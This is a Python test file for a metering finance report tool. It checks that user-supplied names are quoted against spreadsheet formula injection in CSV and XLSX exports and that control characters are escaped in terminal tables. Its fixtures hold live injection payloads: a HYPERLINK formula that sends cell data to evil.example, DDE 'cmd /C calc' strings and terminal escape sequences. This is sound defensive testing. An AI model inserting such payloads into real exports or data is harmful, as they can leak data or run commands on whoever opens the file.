"""Names that come from requests (subscription, user, deployment, product, api) are shown, never run:
no formula in any spreadsheet-bound output (report CSV and XLSX, FOCUS CSV), no terminal control
sequence in the table, and the stored value and the data formats (JSON, Parquet) unchanged."""

from __future__ import annotations

import csv
import io
import json

import pytest
import sqlalchemy as sa

from db.schema import usage_records
from events import encode, v1_event
from metering.finance import focus
from metering.finance.report.options import Period
from metering.finance.report.render import render
from metering.finance.report.build import build_report, export_focus
from metering.safe_text import formula_like, spreadsheet_text, terminal_text
from metering.ingest import Ingestor
from metering.model import RawEvent
from report_data import MONTH, seed

# One value per trigger OWASP lists, and the same behind leading whitespace.
HOSTILE = {
    "subscription": '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "user": "@SUM(1+1)*cmd|' /C calc'!A0",
    "deployment": "-2+3+cmd|' /C calc'!A0",
    "product": "+1+1",
    "api": "\t=1+1",
}
PADDED_SUBSCRIPTION = "   =1+2"
ESCAPE = "sub-\x1b]0;pwned\x07\x1b[2J-\x9b31m"


def hostile_events() -> list[dict]:
    base = dict(time="2026-10-20T10:00:00Z", product=HOSTILE["product"], api=HOSTILE["api"],
                user={"id": HOSTILE["user"], "email": None}, deployment=HOSTILE["deployment"], model="gpt-4o-2024-11-20")
    return [
        v1_event("hostile-1", subscription={"id": HOSTILE["subscription"], "name": "x"}, **base),
        v1_event("hostile-2", subscription={"id": PADDED_SUBSCRIPTION, "name": "y"}, **base),
        v1_event("hostile-3", subscription={"id": ESCAPE, "name": "z"}, **base),
    ]


@pytest.fixture
def hostile(engine):
    seed(engine)
    Ingestor(engine).ingest([RawEvent(encode(e)) for e in hostile_events()])
    return engine


def report(engine, dims=("subscription", "user", "deployment", "product", "api")):
    with engine.connect() as conn:
        return build_report(conn, Period.month(MONTH), dims)


def test_the_rule_follows_owasp():
    for value in ["=1", "+1", "-1", "@x", "\t=1", "\r=1", "  =1", " \t@x", "\u00a0=1"]:
        assert formula_like(value) and spreadsheet_text(value) == "'" + value
    for value in ["sub-finance", "gpt-4o", "a=b", "", "x-1", "(unmapped)"]:
        assert not formula_like(value) and spreadsheet_text(value) == value
    assert spreadsheet_text(None) is None and spreadsheet_text(-5) == -5  # numbers are numbers


def test_stored_values_are_unchanged(hostile):
    with hostile.connect() as conn:
        row = conn.execute(sa.select(usage_records).where(usage_records.c.request_id == "hostile-1")).one()
    assert (row.subscription_id, row.user_id, row.deployment, row.product, row.api) == (
        HOSTILE["subscription"], HOSTILE["user"], HOSTILE["deployment"], HOSTILE["product"], HOSTILE["api"])


def test_report_csv_quotes_every_formula(hostile):
    rows = list(csv.DictReader(io.StringIO(render(report(hostile), "csv"))))
    mine = [r for r in rows if r["deployment"].endswith(HOSTILE["deployment"])]
    assert len(mine) == 3
    for row in mine:
        for column in ("user", "deployment", "product", "api"):
            assert row[column] == "'" + HOSTILE[column]
    subscriptions = {r["subscription"] for r in mine}
    assert subscriptions == {"'" + HOSTILE["subscription"], "'" + PADDED_SUBSCRIPTION, ESCAPE}
    # Nothing else a spreadsheet could run, anywhere in the file (money and counts are plain numbers).
    assert not [c for r in rows for c in r.values() if formula_like(c)]
    assert sum(1 for r in rows if r["user"].startswith("user-")) > 0  # ordinary names untouched


def test_report_xlsx_has_no_formula_and_shows_the_stored_text(hostile):
    from openpyxl import load_workbook

    content = render(report(hostile), "xlsx")
    book = load_workbook(io.BytesIO(content))
    seen = set()
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if formula_like(cell.value):
                    assert cell.quotePrefix, (sheet.title, cell.coordinate, cell.value)
                    seen.add(cell.value)
    assert set(HOSTILE.values()) <= seen and PADDED_SUBSCRIPTION in seen
    # The raw XML holds no <f> element: no spreadsheet program will evaluate anything.
    import zipfile

    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheets = [archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/")]
    assert sheets and not any(b"<f>" in xml or b"<f " in xml for xml in sheets)


def test_focus_csv_quotes_every_formula_and_parquet_keeps_values(hostile):
    with hostile.connect() as conn:
        records = export_focus(conn, Period.month(MONTH), "acct-1", "Contoso")
    rows = list(csv.DictReader(io.StringIO(focus.to_csv(records))))
    mine = [r for r in rows if r["x_Deployment"].endswith(HOSTILE["deployment"])]
    assert mine and all(r["x_Deployment"] == "'" + HOSTILE["deployment"] for r in mine)
    assert {r["SubAccountId"] for r in mine} >= {"'" + HOSTILE["subscription"], "'" + PADDED_SUBSCRIPTION}
    assert not [c for r in rows for c in r.values() if formula_like(c)]
    table = focus.to_arrow(records)
    assert HOSTILE["deployment"] in table.column("x_Deployment").to_pylist()  # data format: as stored


def test_json_keeps_values_as_stored(hostile):
    document = json.loads(render(report(hostile), "json"))
    assert HOSTILE["subscription"] in {r["subscription"] for r in document["rows"]}


def test_table_shows_control_characters_escaped(hostile):
    text = render(report(hostile, ("subscription",)), "table")
    assert "\x1b" not in text and "\x07" not in text and "\x9b" not in text
    assert terminal_text(ESCAPE) in text and "\\x1b]0;pwned\\x07" in text
